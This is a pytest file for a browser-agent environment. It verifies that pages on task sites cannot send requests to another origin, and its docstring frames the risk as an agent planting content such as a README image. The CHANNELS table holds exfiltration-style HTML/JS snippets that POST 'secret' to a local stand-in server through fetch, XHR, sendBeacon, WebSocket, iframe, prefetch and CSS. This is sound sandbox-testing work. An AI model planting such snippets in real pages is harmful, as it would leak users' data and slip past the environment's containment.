"""Pages of the task's sites cannot make the browser fetch other origins (issue 25, finding 6).

An agent can put content on a site (a Markdown image in a README it edits, say); whatever channel that
content uses, the request must not reach another origin. The "outside" server records every request
it gets, on another origin of 127.0.0.1 (as another local site would be).
"""

from __future__ import annotations

import pytest
from env_support import FunctionServer, send_html, task_config

from webarena_gym.envs.env import WebArenaEnv
from webarena_gym.envs.sites import FixedSiteHost

pytestmark = pytest.mark.browser

# Each channel's page tries to reach OUTSIDE, then reports on its own site (GET /done?<channel>), so the
# test waits for that report instead of sleeping.
CHANNELS = {
    "img": '<img src="{outside}/img" onerror="report()" onload="report()">',
    "css": '<div style="background: url({outside}/css)">x</div><img src="/pixel" onerror="report()">',
    "fetch": '<script>fetch("{outside}/fetch", {{method: "POST", body: "secret"}}).finally(report)</script>',
    "xhr": """<script>const x = new XMLHttpRequest(); x.open("POST", "{outside}/xhr");
x.onloadend = report; x.send("secret");</script>""",
    "beacon": '<script>navigator.sendBeacon("{outside}/beacon", "secret"); setTimeout(report, 500)</script>',
    "prefetch": '<link rel="prefetch" href="{outside}/prefetch"><script>setTimeout(report, 500)</script>',
    "iframe": '<iframe src="{outside}/iframe"></iframe><script>setTimeout(report, 500)</script>',
    "websocket": """<script>try {{
  const ws = new WebSocket("{outside_ws}/websocket"); ws.onerror = ws.onclose = report;
}} catch (error) {{ document.title = String(error); report(); }}</script>""",
}


class _Servers:
    def __init__(self) -> None:
        self.outside_hits: list[str] = []
        self.done: list[str] = []
        self.outside = FunctionServer(self._outside)
        self.site = FunctionServer(self._site)

    @property
    def url(self) -> str:
        return self.site.url

    def _outside(self, handler) -> None:
        self.outside_hits.append(handler.path)
        send_html(handler, b"<p>outside</p>")

    def _site(self, handler) -> None:
        channel = handler.path.strip("/")
        if handler.path.startswith("/done?"):
            self.done.append(handler.path[len("/done?") :])
            send_html(handler, b"")
            return
        port = self.outside.port
        body = CHANNELS.get(channel, "").format(outside=f"http://localhost:{port}", outside_ws=f"ws://localhost:{port}")
        script = f"<script>function report() {{ fetch('/done?{channel}'); }}</script>"
        send_html(
            handler,
            f"<!doctype html><html><head><title>{channel}</title>{script}</head><body>{body}</body></html>".encode(),
        )

    def close(self) -> None:
        self.site.close()
        self.outside.close()


@pytest.fixture(scope="module")
def servers():
    running = _Servers()
    yield running
    running.close()


@pytest.fixture(scope="module")
def env(servers):
    host = FixedSiteHost({"shopping": servers.url})
    config = task_config(require_login=False, start_url="__SHOPPING__/")
    made = WebArenaEnv(task_kwargs={"config": config, "host": lambda: host}, obs_mode="axtree")
    made.reset(seed=0)
    yield made
    made.close()


@pytest.mark.parametrize("channel", list(CHANNELS))
def test_no_sub_resource_of_a_site_page_reaches_another_origin(env, servers, channel):
    obs, *_ = env.step(f"goto('{servers.url}/{channel}')")
    assert obs["url"] == f"{servers.url}/{channel}"
    # a frame is a navigation: refused and reported as one
    assert (
        obs["last_action_error"].startswith("Blocked navigation")
        if channel == "iframe"
        else not obs["last_action_error"]
    )
    for _ in range(20):  # the page reports once its attempt is over (each step is a browser round trip)
        if channel in servers.done:
            break
        env.step("noop(100)")
    assert channel in servers.done
    assert [hit for hit in servers.outside_hits if hit.startswith(f"/{channel}")] == []
    if channel == "websocket":
        assert "blocked: not a task site" in env.page.title()
